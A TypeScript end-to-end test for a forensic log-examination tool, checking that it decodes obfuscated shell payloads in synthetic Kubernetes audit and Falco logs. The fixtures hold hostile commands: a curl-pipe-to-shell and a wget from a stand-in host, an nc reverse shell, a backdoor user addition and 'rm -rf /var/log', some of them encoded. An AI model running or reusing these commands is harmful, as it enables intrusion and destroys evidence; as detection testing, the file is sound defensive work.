import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Examiner } from './examiner.js';
import { RunningExhibit } from './running-exhibit.js';

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');

const SCRIPT = 'curl -fsSL http://pool.example.invalid/x.sh | sh';
/** Each in a writing of its own, as attackers hand them to a shell. */
const HIDDEN = [
  ['base64', base64(SCRIPT), ['base64']],
  ['hex', Buffer.from('wget http://pool.example.invalid/a').toString('hex'), ['hex']],
  ['gzip', base64(gzipSync('tar xf /tmp/.x/kit.tar -C /usr/local')), ['base64, then gzip']],
  ['UTF-16', base64(Buffer.from('net user backdoor /add now', 'utf16le')), ['base64, then UTF-16']],
  ['nested', base64(base64('nc -e /bin/sh pool.example.invalid 4444')), ['base64', 'base64, then base64']],
] as const;

/** Made up, in the layout of the API server and of Falco. */
const audit = (stage: string, second: string, id: string, pod: string, command: string): string =>
  `${JSON.stringify({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: id, stage, verb: 'create', requestURI: `/api/v1/namespaces/shop/pods/${pod}/exec?command=sh&command=-c&command=${encodeURIComponent(command)}`, user: { username: 'mallory' }, sourceIPs: ['198.51.100.7'], objectRef: { resource: 'pods', namespace: 'shop', name: pod, subresource: 'exec' }, requestReceivedTimestamp: `2026-07-01T12:00:${second}.000000Z`, stageTimestamp: `2026-07-01T12:00:${second}.500000Z` })}\n`;
const alert = (second: string, payload: string): string =>
  `${JSON.stringify({ output: 'Shell with a payload', priority: 'Warning', rule: 'Payload', source: 'syscall', time: `2026-07-01T12:01:${second}Z`, hostname: 'node-1', output_fields: { 'container.id': 'host', 'proc.name': 'sh', 'proc.cmdline': `sh -c ${payload}` } })}\n`;

describe('an event in full', () => {
  const exhibit = new RunningExhibit();
  const folder = mkdtempSync(join(tmpdir(), 'exhibit-detail-'));
  let examiner: Examiner;
  let page: Page;

  beforeAll(async () => {
    const log = join(folder, 'audit.log');
    const alerts = join(folder, 'falco.log');
    writeFileSync(
      log,
      audit('RequestReceived', '01', 'act-1', 'cart', 'id') +
        audit('ResponseStarted', '01', 'act-1', 'cart', 'id') +
        audit('ResponseComplete', '02', 'act-2', 'cart', 'rm -rf /var/log') +
        audit('ResponseComplete', '03', 'act-3', 'web', 'ls') +
        audit('ResponseComplete', '04', 'act-4', 'cart', 'exit'),
    );
    writeFileSync(alerts, HIDDEN.map(([, payload], index) => alert(`0${index}`, payload)).join(''));
    const start = await exhibit.start();
    await start.getByLabel('Case number').fill('E2E-D');
    await start.getByLabel('Examiner').fill('Jane Smith');
    await start.getByLabel('Folder of the case').fill(join(folder, 'case'));
    await start.getByRole('button', { name: 'Make the case' }).click();
    page = await exhibit.page('case');
    examiner = new Examiner(page);
    await examiner.drop([log, alerts]);
    await examiner.importDropped('One cluster');
  });
  afterAll(async () => {
    await exhibit.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  const detail = () => page.getByRole('region', { name: 'Event', exact: true });
  const derived = () => detail().getByRole('region', { name: 'Derived' });
  const chosenTime = (second: string) =>
    detail().getByRole('region', { name: 'Times' }).getByText(`2026-07-01 12:00:${second}`).first();

  it.each(HIDDEN)('shows what lies in %s, marked as derived', async (_name, payload, steps) => {
    await examiner.query(`process.command_line: "sh -c ${payload}"`);
    await examiner.chooseFirstRow();
    await detail().getByRole('region', { name: 'Record' }).getByText(payload).waitFor();
    await expect.poll(() => derived().getByRole('listitem').count()).toBe(steps.length);
    const items = await derived().getByRole('listitem').allInnerTexts();
    for (const [index, step] of steps.entries())
      expect(items[index]).toMatch(new RegExp(`^derived\\s+${step}\\s+from`));
    const last = await derived().getByLabel('Derived text').last().innerText();
    expect([SCRIPT, 'wget', 'tar xf', 'net user', 'nc -e'].some((start) => last.startsWith(start))).toBe(true);
  });

  it('shows the command in the URL of a request', async () => {
    await examiner.query('exhibit.act: act-2');
    await examiner.chooseFirstRow();
    await derived().getByText('command=rm -rf /var/log').waitFor();
    expect(await derived().innerText()).toContain('URL-encoding');
  });

  it('leads to the other records of the same act', async () => {
    await examiner.query('exhibit.act: act-1 and exhibit.stage: RequestReceived');
    await examiner.chooseFirstRow();
    const same = detail().getByRole('region', { name: 'Same act' });
    await same.getByText('1 other event with the key').waitFor();
    const other = same.getByRole('button');
    expect(await other.count()).toBe(1);
    await other.click();
    await same.getByText('RequestReceived').waitFor();
    await detail().getByRole('region', { name: 'Fields' }).getByText('ResponseStarted').waitFor();
  });

  it('goes to the events before and after in its lane, whatever the query', async () => {
    await examiner.query('exhibit.act: act-2');
    await examiner.chooseFirstRow();
    await detail().getByText('3 of 4 in the lane').waitFor();
    await chosenTime('02').waitFor();
    await page.getByRole('grid', { name: 'Events' }).focus();
    await page.keyboard.press(']');
    // The event of another pod between them is left out.
    await chosenTime('04').waitFor();
    await detail().getByText('4 of 4 in the lane').waitFor();
    expect(
      await detail()
        .getByRole('button', { name: /^After/ })
        .isDisabled(),
    ).toBe(true);
    await page.keyboard.press('[');
    await chosenTime('02').waitFor();
    await detail().getByText('3 of 4 in the lane').waitFor();
    await page.keyboard.press('[');
    await chosenTime('01').waitFor();
    await detail().getByText('2 of 4 in the lane').waitFor();
  });
});
